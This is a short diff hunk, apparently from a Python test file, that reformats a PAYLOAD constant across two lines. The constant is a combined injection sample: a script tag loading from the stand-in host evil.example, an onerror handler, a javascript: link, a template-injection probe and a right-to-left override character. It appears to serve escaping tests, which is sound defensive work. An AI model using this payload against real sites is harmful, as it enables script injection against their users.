@@ -26,7 +26,10 @@ from bundles import TARGET, entity, evidence, network, rdap, resolved, suffix
 from casework import Clock
 from served import Served, hotline_settings, serving
 
-PAYLOAD = "\"'><script src=//evil.example/x></script><img src=x onerror=alert(1)><a href=javascript:alert(1)>{{7*7}}\u202egnp"
+PAYLOAD = (
+    "\"'><script src=//evil.example/x></script><img src=x onerror=alert(1)><a "
+    "href=javascript:alert(1)>{{7*7}}\u202egnp"
+)
 LIGHTHOUSE = "https://www.lighthouse.example/secret-page"
 
 
